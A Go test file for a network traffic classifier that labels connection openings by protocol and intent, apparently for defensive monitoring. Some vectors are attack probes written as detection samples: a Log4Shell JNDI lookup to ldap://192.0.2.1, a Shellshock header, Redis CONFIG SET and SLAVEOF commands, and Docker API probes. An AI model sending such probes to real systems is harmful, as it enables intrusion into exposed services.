package traffic

import (
	"bytes"
	"encoding/hex"
	"strings"
	"testing"
)

// A vector is a beginning, of the specification of its protocol or said by a real client, and what it is.
type vector struct {
	label      Label
	confidence Confidence
	hypothesis Hypothesis
	text       string
}

func unhex(s string) string {
	b, err := hex.DecodeString(strings.Join(strings.Fields(s), ""))
	if err != nil {
		panic(err)
	}
	return string(b)
}

var isa = "ISA*00*          *00*          *ZZ*SENDERID       *ZZ*RECEIVERID     *261123*0500*^*00501*000000001*0*P*:~GS*HP*"

var ae = "ARCHIVE         " + "CT-ROOM-1       "

func streamVectors() []vector {
	zk := unhex("0000000b 0000000000000000 00000014 0000000000000001 00010000 0000000000000000 ffffffff")
	return []vector{
		{TLS, Exact, Misdirected, unhex("16 0301 00c8 01 0000c4 0303")},
		{SSL2, Structural, Scan, unhex("80 2e 01 0002 0015 0000 0010")},
		{SSL2, Structural, Scan, unhex("80 2e 01 0301 0015 0000 0010")},
		{HTTP, Exact, Misdirected, "GET / HTTP/1.1\r\nHost: a.example\r\nUser-Agent: curl/8.5.0\r\n\r\n"},
		{HTTP, Exact, Scan, "GET / HTTP/1.1\r\nHost: a\r\nuser-agent: Mozilla/5.0 zgrab/0.x\r\n\r\n"},
		{HTTP, Exact, Exploit, "GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1\r\nHost: a\r\n\r\n"},
		{HTTP, Exact, Exploit, "GET /v1.24/containers/json HTTP/1.1\r\nHost: a\r\n\r\n"},
		{HTTP, Exact, Exploit, "GET /v1.41/version HTTP/1.1\r\nHost: docker\r\n\r\n"},
		{HTTP, Exact, Misdirected, "GET /v1.4/version HTTP/1.1\r\nHost: a\r\n\r\n"},
		{HTTP, Exact, Exploit, "GET /cgi-bin/luci HTTP/1.0\r\n\r\n"},
		{HTTP, Exact, Exploit, "GET / HTTP/1.0\r\nReferer: () { :;}; /bin/true\r\n\r\n"},
		{HTTP, Exact, Development, "GET /app.js HTTP/1.1\r\nHost: localhost:2988\r\n\r\n"},
		{HTTP, Structural, Misdirected, "POST /api HTTP/1.1\r\nHost: a\r\n"},
		{HTTP, Prefix, Misdirected, "GET /half"},
		{HTTP, Prefix, Misdirected, "GET /old\r\n"},
		{HTTPProxy, Exact, Scan, "CONNECT mail.example:25 HTTP/1.1\r\n\r\n"},
		{HTTPProxy, Exact, Scan, "GET http://example.com/ HTTP/1.1\r\n\r\n"},
		{HTTP2, Exact, Misdirected, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x12\x04"},
		{WebSocket, Exact, Development, "GET /ws HTTP/1.1\r\nHost: a\r\nUpgrade: WebSocket\r\nConnection: Upgrade\r\n\r\n"},
		{SSH, Exact, Misdirected, "SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"},
		{SSH, Exact, Scan, "SSH-2.0-ZGrab ZGrab SSH Survey\r\n"},
		{Hippad, Exact, Misdirected, "hippad/1\n"},
		{Syslog, Exact, Misdirected, "<85>1 2026-11-23T05:00:01Z ct dcm4che 7 - - x"},
		{Syslog, Exact, Misdirected, "312 <85>1 2026-11-23T05:00:01Z"},
		{GELF, Weak, Misdirected, `{"version":"1.1","host":"a","short_message":"b"}`},
		{GELF, Weak, Misdirected, `{"version":"1.1","host":"a","short_message":"b"}` + "\x00" + `{"version":"1.1"`},
		{JSON, Weak, Custom, `{"name":"MUELLER"}` + "\x00"},
		{RDP, Exact, Scan, unhex("0300 002a 25 e0 0000 0000 00") + "Cookie: mstshash=a\r\n" + unhex("0100080003000000")},
		{RDP, Exact, Scan, unhex("0300 0013 0e e0 0000 0000 00 01 00 0800 0b000000")},
		{TPKT, Exact, Scan, unhex("0300 0016 11 e0 0000 0001 00 c0 01 0a c1 02 0100 c2 02 0102")},
		{SMB, Exact, Scan, unhex("00 000054 ff 534d42 72 00000000")},
		{SMB, Exact, Scan, unhex("00 0000e8 fe 534d42 4000")},
		{SMB, Exact, Scan, unhex("81 000044 20") + "CKFDENECFDEFFCFGEFFCCACACACACACA"},
		{PostgreSQL, Exact, Misdirected, unhex("00000008 04d2162f")},
		{PostgreSQL, Exact, Misdirected, unhex("00000010 04d2162e 00000001 00000002")},
		{PostgreSQL, Exact, Misdirected, unhex("0000002c 04d2162e 00000001") + scrambled(32)}, // protocol 3.2
		{PostgreSQL, Exact, Misdirected, unhex("00000008 04d21630")},
		{PostgreSQL, Exact, Misdirected, unhex("0000002a 00030000") + "user\x00postgres\x00"},
		{MSSQL, Exact, Misdirected, unhex("12 01 002f 0000 01 00 00 001a 0006 01")},
		{MSSQL, Structural, Misdirected, unhex("10 01 00b0 0000 01 00 a8000000")},
		{Oracle, Structural, Misdirected, unhex("0057 0000 01 00 0000 0136 012c")},
		{MongoDB, Exact, Misdirected, unhex("3f000000 01000000 00000000 d4070000 00000000")},
		{MongoDB, Exact, Misdirected, unhex("3f000000 07000000 00000000 dd070000 00000000")},
		{Cassandra, Structural, Misdirected, unhex("04 00 0000 05 00000000")},
		{Cassandra, Structural, Misdirected, unhex("04 00 0000 01 00000016 0001 000b") + "CQL_VERSION"},
		{Redis, Exact, Misdirected, "*1\r\n$4\r\nPING\r\n"},
		{Redis, Exact, Exploit, "*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$5\r\n/root\r\n"},
		{Redis, Prefix, Misdirected, "PING\r\n"},
		{Redis, Prefix, Exploit, "SLAVEOF 192.0.2.1 6379\r\n"},
		{Memcached, Prefix, Misdirected, "stats\r\n"},
		{Memcached, Prefix, Misdirected, "get a\r\n"},
		{Memcached, Prefix, Misdirected, "mn\r\n"},
		{Memcached, Structural, Misdirected, unhex("80 0b 0000 00 00 0000 00000000 00000000 0000000000000000")},
		{MQTT, Exact, Misdirected, unhex("10 0c 0004") + "MQTT" + unhex("04 02 003c 0000")},
		{MQTT, Exact, Misdirected, unhex("10 8e01 0006") + "MQIsdp\x03\x02"},
		{AMQP, Exact, Misdirected, "AMQP\x00\x00\x09\x01"},
		{NATS, Exact, Misdirected, `CONNECT {"verbose":false}` + "\r\n"},
		{STOMP, Exact, Misdirected, "CONNECT\naccept-version:1.2\nhost:a\n\n\x00"},
		{Kafka, Structural, Misdirected, unhex("00000023 0012 0003 00000001 0009") + "console-p" + unhex("00 01 02")},
		{ZooKeeperPeer, Exact, Misdirected, zk},
		{ZooKeeperPeer, Exact, Misdirected, unhex("00000010 0000000100000000 0000000c 0000000000000002 00010000 ffffffff")},
		{ZooKeeperPeer, Exact, Misdirected, unhex("ffffffffffff0000 0000000000000002 0000000e") + "localhost:3988"},
		{ZooKeeperClient, Exact, Misdirected, unhex("0000002d 00000000 0000000000000000 00007530 0000000000000000 00000010") + strings.Repeat("\x00", 17)},
		{ZooKeeperClient, Structural, Misdirected, "ruok"},
		{ZooKeeperClient, Structural, Misdirected, "stat\n"},
		{SOCKS4, Structural, Scan, unhex("04 01 0050 c0000201 00")},
		{SOCKS4, Structural, Scan, unhex("04 01 0050 01000001 00")}, // to 1.0.0.1: the beginning of a CQL header
		{SOCKS4, Structural, Scan, unhex("04 01 0050 01000001") + "bob\x00"},
		{SOCKS5, Structural, Scan, unhex("05 02 00 02")},
		{SIP, Exact, Scan, "OPTIONS sip:100@192.0.2.1 SIP/2.0\r\nVia: SIP/2.0/TCP\r\n\r\n"},
		{SIP, Prefix, Scan, "REGISTER sip:192.0.2.1"},
		{RTSP, Exact, Scan, "OPTIONS / RTSP/1.0\r\n\r\n"},
		{RTSP, Exact, Scan, "DESCRIBE rtsp://192.0.2.1/live RTSP/1.0\r\nCSeq: 1\r\n\r\n"},
		{DNS, Exact, Misdirected, unhex("001d 1234 0100 0001 0000 0000 0000 07") + "example" + unhex("03 636f6d 00 0001 0001")},
		{DNS, Exact, Scan, unhex("001e 0006 0100 0001 0000 0000 0000 07") + "version\x04bind" + unhex("00 0010 0003")},
		{LDAP, Exact, Misdirected, unhex("30 0c 02 01 01 60 07 02 01 03 04 00 80 00")},
		{LDAP, Exact, Misdirected, unhex("30 84 00000025 02 01 07 63 84")},
		{DNS, Exact, Misdirected, unhex("000c 0000 1000 0000 0000 0000 0000")},
		{Kerberos, Structural, Misdirected, unhex("00000071 6a81 6e30 816b")},
		{SunRPC, Exact, Scan, unhex("80000028 72fe1d13 00000000 00000002 000186a0 00000002")},
		{DICOM, Exact, Misdirected, unhex("01 00 000000cd 0001 0000") + ae + strings.Repeat("\x00", 32)},
		{HL7, Exact, Misdirected, "\x0bMSH|^~\\&|ADT|WARD|"},
		{HL7, Exact, Misdirected, "MSH|^~\\&|ADT|WARD|"},
		{DICOM, Exact, Misdirected, unhex("01 00 000000cd 0001 0000") + "ARCHIVE" + strings.Repeat("\x00", 9) + "CT-ROOM-1" + strings.Repeat("\x00", 7+32)},
		{HL7, Weak, Misdirected, "\r\n\x0bMSH|^~\\&|ADT|WARD|"},
		{HL7, Weak, Misdirected, "\xef\xbb\xbfMSH|^~\\&|ADT|WARD|"},
		{HL7, Weak, Misdirected, "MSH^~|\\&^ADT^M\xfcller"},
		{HL7, Weak, Misdirected, "PID|1||4711^^^H||MUELLER^EVA"},
		{X12, Weak, Misdirected, "\n" + isa},
		{X12, Weak, Misdirected, "GS*HP*SENDER*RECEIVER*20261123*0500*1*X*005010X221A1~"},
		{X12, Weak, Misdirected, "ISA*00**00**ZZ*SENDER*ZZ*RECEIVER*261123*0500*^*00501*1*0*P*:~"},
		{X12, Exact, Misdirected, isa},
		{X12, Structural, Misdirected, isa[:60]},
		{EDIFACT, Exact, Misdirected, "UNA:+.? 'UNB+UNOC:3+A+B'"},
		{EDIFACT, Weak, Misdirected, "UNA:*.? 'UNB*UNOC:3*A*B'"},
		{EDIFACT, Weak, Misdirected, "UNB+KECA:1+SENDER+RECEIVER"},
		{EDIFACT, Exact, Misdirected, "UNB+UNOA:1+SENDER+RECEIVER+"},
		{FHIR, Weak, Misdirected, `{"resourceType":"Patient","id":"1"}`},
		{SMTP, Exact, Misdirected, "EHLO client.example\r\n"},
		{IMAP, Structural, Misdirected, "a1 CAPABILITY\r\n"},
		{MailOrFTP, Prefix, Misdirected, "USER anonymous\r\n"},
		{IRC, Prefix, Misdirected, "NICK a\r\nUSER a 0 * :a\r\n"},
		{VNC, Exact, Scan, "RFB 003.008\n"},
		{Telnet, Exact, Scan, unhex("ff fd 03 ff fb 18")},
		{Telnet, Structural, Scan, unhex("ff fd 03")},
		{Telnet, Structural, Scan, unhex("ff fd 03") + "root\r\n"},
		{Binary, Weak, NoIdea, unhex("ff fe 31 00 32 00")}, // "12" in UTF-16
		{JavaRMI, Exact, Exploit, "JRMI\x00\x02K"},
		{JavaObject, Exact, Exploit, unhex("aced0005 7372")},
		{JDWP, Exact, Exploit, "JDWP-Handshake"},
		{WebLogic, Exact, Exploit, "t3 12.2.1\nAS:255\nHL:19\n\n"},
		{ADB, Exact, Exploit, "CNXN" + unhex("00000001 00001000 07000000 32020000 bcb1a7b1") + "host::\x00"},
		{AJP, Exact, Exploit, unhex("1234 0005 02 02 0008") + "HTTP/1.1\x00"},
		{AJP, Structural, Exploit, unhex("1234 0001 0a")},
		{Binary, Weak, NoIdea, unhex("1234 0005 02 99 0102")},
		{Erlang, Structural, Development, unhex("0001 6e")},
		{Erlang, Structural, Development, unhex("0015 6e 0005 00037fbd") + "node@host"},
		{X11, Exact, Scan, unhex("6c00 0b00 0000 0000 0000 0000")},
		{LPD, Structural, Scan, "\x02default\n"},
		{Modbus, Structural, Scan, unhex("0001 0000 0006 ff 03 0000 0001")},
		{Minecraft, Structural, Scan, unhex("10 00 fb05 09") + "localhost" + unhex("63dd 01") + "\x01\x00"},
		{BitTorrent, Exact, Misdirected, "\x13BitTorrent protocol\x00\x00\x00\x00\x00\x00\x00\x00"},
		{Git, Exact, Development, "0033git-upload-pack /project.git\x00host=a\x00"},
		{Rsync, Exact, Development, "@RSYNCD: 31.0\n"},
		{ProxyProtocol, Exact, Misdirected, "PROXY TCP4 192.0.2.1 192.0.2.2 56324 443\r\n"},
		{ProxyProtocol, Exact, Misdirected, "\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c"},
		{BlankLines, Structural, Scan, "\r\n\r\n"},
		{Help, Prefix, Scan, "HELP\r\n"},
		{JSON, Weak, Custom, `{"cmd":"hello"}`},
		{XML, Weak, Custom, `<?xml version="1.0"?><a/>`},
		{XML, Weak, Custom, "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a>M\xfcller</a>"},
		{JSON, Weak, Custom, "{\"name\":\"M\xfcller\"}"},
		{Text, Weak, Custom, "hello world\n"},
		{Text, Weak, Custom, "ISABEL and STEVE\n"},
		{Text, Weak, Custom, "grüß Gott\n"},
		{LengthPrefixed, Weak, Custom, unhex("0000000a 01020304050607080910")},
		{Scrambled, Weak, NoIdea, scrambled(256)},
		{Binary, Weak, NoIdea, unhex("99 01 02 99 99 99 01 02")},
		{Empty, Weak, NoIdea, ""},
	}
}

// scrambled are n bytes as a cipher makes them.
func scrambled(n int) string {
	out, x := make([]byte, n), uint64(0x9e3779b97f4a7c15)
	for i := range out {
		x ^= x << 13
		x ^= x >> 7
		x ^= x << 17
		out[i] = byte(x >> 32)
	}
	out[0] = 0x99
	return string(out)
}

func packetVectors() []vector {
	return []vector{
		{GELF, Structural, Misdirected, unhex("1e0f 0102030405060708 00 02") + `{"version":"1.1"`},
		{DTLS, Exact, Misdirected, unhex("16 feff 0000000000000000 00c8 01")},
		{QUIC, Exact, Misdirected, unhex("c3 00000001 08") + strings.Repeat("\x55", 1200)},
		{DNS, Structural, Misdirected, unhex("1234 0100 0001 0000 0000 0000 07") + "example" + unhex("03 636f6d 00 0001 0001")},
		{DNS, Structural, Scan, unhex("1234 0100 0001 0000 0000 0000 07") + "VERSION\x04BIND" + unhex("00 0010 0003")},
		{SNMP, Structural, Scan, unhex("30 26 02 01 01 04 06") + "public" + unhex("a0 19 02 04 00000001 02 01 00 02 01 00 30 0b 30 09 06 05 2b 06010201 05 00")},
		{NTP, Structural, Misdirected, unhex("e3 00 06 ec") + strings.Repeat("\x00", 44)},
		{STUN, Exact, Misdirected, unhex("0001 0000 2112a442 000102030405060708090a0b")},
		{SSDP, Exact, Scan, "M-SEARCH * HTTP/1.1\r\nHost: 239.255.255.250:1900\r\n\r\n"},
		{SIP, Exact, Scan, "OPTIONS sip:a@192.0.2.1 SIP/2.0\r\n\r\n"},
		{IPMI, Exact, Scan, unhex("0600ff07 0000000000000000000920 18c88100388e04b5")},
		{SunRPC, Structural, Scan, unhex("72fe1d13 00000000 00000002 000186a0 00000002 00000004") + strings.Repeat("\x00", 16)},
		{Memcached, Prefix, Misdirected, unhex("0001 0000 0001 0000") + "stats\r\n"},
		{Syslog, Exact, Misdirected, "<13>Nov 23 05:00:01 host app: x"},
		{HL7, Exact, Misdirected, "MSH|^~\\&|ADT|WARD|"},
		{JSON, Weak, Custom, `{"cmd":"hello"}`},
		{Empty, Weak, NoIdea, ""},
	}
}

// Every signature has a vector, and every vector its label, confidence and hypothesis.
func TestVectors(t *testing.T) {
	seen := map[Label]bool{Unknown: true, Waits: true, Unread: true} // not of bytes
	check := func(network string, v vector, got Verdict) {
		seen[v.label] = true
		if got.Label != v.label || got.Confidence != v.confidence || got.Hypothesis != v.hypothesis {
			t.Errorf("%s %.40q: %s, %s, %s; want %s, %s, %s", network, v.text, got.Label, got.Confidence, got.Hypothesis, v.label, v.confidence, v.hypothesis)
		}
	}
	for _, v := range streamVectors() {
		check("tcp", v, Classify([]byte(v.text)))
	}
	for _, v := range packetVectors() {
		check("udp", v, ClassifyPacket([]byte(v.text)))
	}
	for l := range labels {
		if !seen[l] {
			t.Errorf("%s has no vector", l)
		}
		if l.String() == "" {
			t.Errorf("label %d has no word", uint8(l))
		}
		var back Label
		if err := back.UnmarshalText([]byte(l.String())); err != nil || back != l {
			t.Errorf("%s comes back as %s", l, back)
		}
	}
}

// What is settled stays: whatever the bytes, however they come.
func monotone(t *testing.T, b []byte) {
	whole := Classify(b)
	for n := range len(b) {
		part := Classify(b[:n:n])
		if part.Confidence == Exact && (whole.Label != part.Label || whole.Confidence != Exact) {
			t.Fatalf("%.60q is %s, exact; with more it is %s, %s", b[:n], part.Label, whole.Label, whole.Confidence)
		}
		if !part.More && part != whole {
			t.Fatalf("%.60q is settled as %+v; with more it is %+v", b[:n], part, whole)
		}
	}
}

func TestMonotone(t *testing.T) {
	for _, v := range streamVectors() {
		for _, w := range streamVectors() {
			monotone(t, []byte(v.text+w.text))
		}
	}
}

// Whatever two bytes come first and whatever run of one byte follows, at every length: nothing panics, for a panic here would be the end
// of the daemon, and what is settled stays.
func TestEveryBeginning(t *testing.T) {
	lengths := []int{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 14, 16, 28, 48}
	for _, fill := range []byte{0x00, 0x20, 0x80, 0xff} {
		for first := range 1 << 16 {
			b := append([]byte{byte(first >> 8), byte(first)}, bytes.Repeat([]byte{fill}, 48)...)
			for _, n := range lengths {
				ClassifyPacket(b[:n:n])
				if v := Classify(b[:n:n]); !v.More && v != Classify(b[:n+1]) {
					t.Fatalf("%x is settled as %+v; with more it is %+v", b[:n], v, Classify(b[:n+1]))
				}
			}
		}
	}
}

// FuzzClassify: nothing panics, a label that is exact stays, a verdict that is settled stays, only MaxFirst bytes count.
func FuzzClassify(f *testing.F) {
	for _, v := range streamVectors() {
		f.Add([]byte(v.text))
	}
	for _, v := range packetVectors() {
		f.Add([]byte(v.text))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		b = b[:min(len(b), MaxFirst+16)]
		monotone(t, b[:min(len(b), 300)])
		if v := Classify(b); len(b) >= MaxFirst && (v.More || v != Classify(b[:MaxFirst])) {
			t.Fatalf("more than %d bytes count", MaxFirst)
		}
		if v := ClassifyPacket(b); v.More || v.Confidence == 0 {
			t.Fatalf("a datagram is %+v", v)
		}
		s := Describe(Classify(b), b[:min(len(b), MaxFirst)], nil, nil)
		if s.Label.MayHoldPatientData() && (s.Client != "" || s.Digest != "") {
			t.Fatalf("%s: something of the bytes is kept", s.Label)
		}
	})
}

func BenchmarkClassify(b *testing.B) {
	var all [][]byte
	for _, v := range streamVectors() {
		all = append(all, []byte(v.text))
	}
	b.ReportAllocs()
	n := 0
	for b.Loop() {
		for _, text := range all {
			Classify(text)
		}
		n += len(all)
	}
	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "packets/s")
}

// The worst first bytes: 4 KiB that fit nothing, or a long header.
func BenchmarkClassifyLong(b *testing.B) {
	for name, text := range map[string]string{
		"random": scrambled(MaxFirst),
		"header": "GET / HTTP/1.1\r\n" + strings.Repeat("X-Header: some value here\r\n", 140) + "\r\n",
		"text":   strings.Repeat("words without meaning ", 180),
	} {
		b.Run(name, func(b *testing.B) {
			data := []byte(text)
			b.ReportAllocs()
			b.SetBytes(int64(len(data)))
			for b.Loop() {
				Classify(data)
			}
		})
	}
}

func TestClassifyDoesNotAllocate(t *testing.T) {
	for _, v := range streamVectors() {
		b := []byte(v.text)
		if n := testing.AllocsPerRun(20, func() { Classify(b) }); n != 0 {
			t.Errorf("%s: %v allocations", v.label, n)
		}
	}
	for _, v := range packetVectors() {
		b := []byte(v.text)
		if n := testing.AllocsPerRun(20, func() { ClassifyPacket(b) }); n != 0 {
			t.Errorf("%s: %v allocations", v.label, n)
		}
	}
}
